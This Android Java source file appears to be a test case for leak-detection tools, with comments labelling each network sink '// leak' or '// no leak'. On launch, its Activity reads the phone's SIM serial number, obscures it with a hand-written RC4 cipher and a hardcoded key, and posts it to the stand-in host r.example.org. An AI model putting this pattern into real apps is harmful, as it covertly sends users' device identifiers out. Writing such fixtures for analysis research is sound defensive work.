package stealers;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;

import java.io.*;
import java.net.*;

/** A stream cipher written by hand, then hexadecimal. */
public class Rc4 extends Activity {
    private final byte[] state = new byte[256];
    private int x, y;

    Rc4 key(byte[] key) {
        for (int i = 0; i < 256; i++) state[i] = (byte) i;
        int j = 0;
        for (int i = 0; i < 256; i++) {
            j = (j + state[i] + key[i % key.length]) & 255;
            byte t = state[i];
            state[i] = state[j];
            state[j] = t;
        }
        x = y = 0;
        return this;
    }

    byte[] run(byte[] in) {
        byte[] out = new byte[in.length];
        for (int n = 0; n < in.length; n++) {
            x = (x + 1) & 255;
            y = (state[x] + y) & 255;
            byte t = state[x];
            state[x] = state[y];
            state[y] = t;
            out[n] = (byte) (in[n] ^ state[(state[x] + state[y]) & 255]);
        }
        return out;
    }

    static String hex(byte[] in) {
        final char[] digits = "0123456789abcdef".toCharArray();
        StringBuilder b = new StringBuilder(in.length * 2);
        for (byte one : in) b.append(digits[(one >> 4) & 15]).append(digits[one & 15]);
        return b.toString();
    }

    @Override
    protected void onCreate(Bundle b) {
        super.onCreate(b);
        final String sim = ((TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE)).getSimSerialNumber();
        new Thread() {
            public void run() {
                try {
                    String sealed = hex(key("k3y".getBytes()).run(sim.getBytes()));
                    post("http://r.example.org/a", "d=" + sealed);
                    String plain = hex(new Rc4().key("k3y".getBytes()).run("boot".getBytes()));
                    Writer w = new OutputStreamWriter(new Socket("r.example.org", 81).getOutputStream());
                    w.write(plain); // no leak
                    w.flush();
                } catch (IOException e) {
                }
            }
        }.start();
    }

    static void post(String to, String what) throws IOException {
        URLConnection c = new URL(to).openConnection();
        c.setDoOutput(true);
        PrintStream p = new PrintStream(c.getOutputStream());
        p.print(what); // leak
        p.close();
        c.getInputStream().close();
    }
}
